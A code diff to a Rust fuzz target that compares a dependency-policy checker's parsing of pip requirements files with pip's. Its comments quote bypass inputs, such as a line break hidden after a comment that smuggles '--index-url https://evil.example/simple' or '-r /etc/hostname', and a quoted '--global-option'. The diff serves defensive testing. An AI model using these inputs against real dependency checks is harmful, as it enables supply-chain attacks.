@@ -15,24 +15,16 @@
 use libfuzzer_sys::fuzz_target;
 use policy::deps::{check_node, check_requirements, Refused};
 
-/// Python's `str.splitlines` ends a line at these, besides `\n` and `\r\n`, and
-/// `check_requirements` (which splits with `str::lines`) does not.
-///
-/// KNOWN BUG (reported with this target): a comment that a requirements line ends with
-/// hides whatever follows such a break from `check_requirements`, and pip reads it as a
-/// line of its own: `six # \x0c--index-url https://evil.example/simple` or
-/// `six #\r-r /etc/hostname` are taken, and pip uses the index or reads the file. Until
-/// `check_requirements` splits lines as pip does (or refuses these characters), texts
-/// with them are left out of the comparison with pip; set this to `true` to put them in.
-const PIP_LINE_BREAKS_CHECKED: bool = false;
+/// Python's `str.splitlines` ends a line at these, besides `\n` and `\r\n`.
+/// `check_requirements` refuses them (a comment ending a line once hid what followed
+/// such a break, which pip read as a line of its own: `six # \x0c--index-url ...`), so
+/// texts with them are compared with pip like any other; `false` would leave them out.
+const PIP_LINE_BREAKS_CHECKED: bool = true;
 
-/// KNOWN BUG (reported with this target, minor): `check_requirements` reads a word that
-/// starts with a quote as part of the requirement, where pip's shlex reads the options
-/// after a `--hash=` without the quotes: `six --hash=sha256:ab ""--global-option=x` is
-/// taken, and pip passes `--global-option=x` to the package's `setup.py`. Only the
-/// requirement's own options can be given so (pip ignores the others on its line), so
-/// with this `false` the options of a requirement's line are not compared.
-const REQUIREMENT_OPTIONS_CHECKED: bool = false;
+/// Whether a requirement's own options are compared with pip's shlex reading of them
+/// (`six --hash=sha256:ab ""--global-option=x` gives pip `--global-option=x`;
+/// `check_requirements` refuses quotes and backslashes among options).
+const REQUIREMENT_OPTIONS_CHECKED: bool = true;
 
 fn python_only_break(text: &str) -> bool {
     let b = text.as_bytes();
